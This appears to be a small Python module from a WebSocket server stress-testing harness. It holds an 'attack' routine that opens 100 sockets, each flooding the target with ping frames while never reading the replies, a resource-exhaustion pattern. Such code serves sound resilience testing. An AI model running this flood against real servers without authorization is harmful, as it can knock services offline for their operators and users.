"""Sockets send pings, and never read the answers."""

import asyncio

from ...load.link import PING, frame
from ..aim import Aim
from ..sockets import socket_of

SOCKETS = 100
_PINGS = 1000 * frame(b"x" * 125, PING)


async def attack(aim: Aim) -> None:
    async def ask() -> None:
        while True:
            raw = await socket_of(aim)
            while await raw.write(_PINGS):
                aim.counts["pings"] += 1000

    await asyncio.gather(*(ask() for _ in range(SOCKETS)))
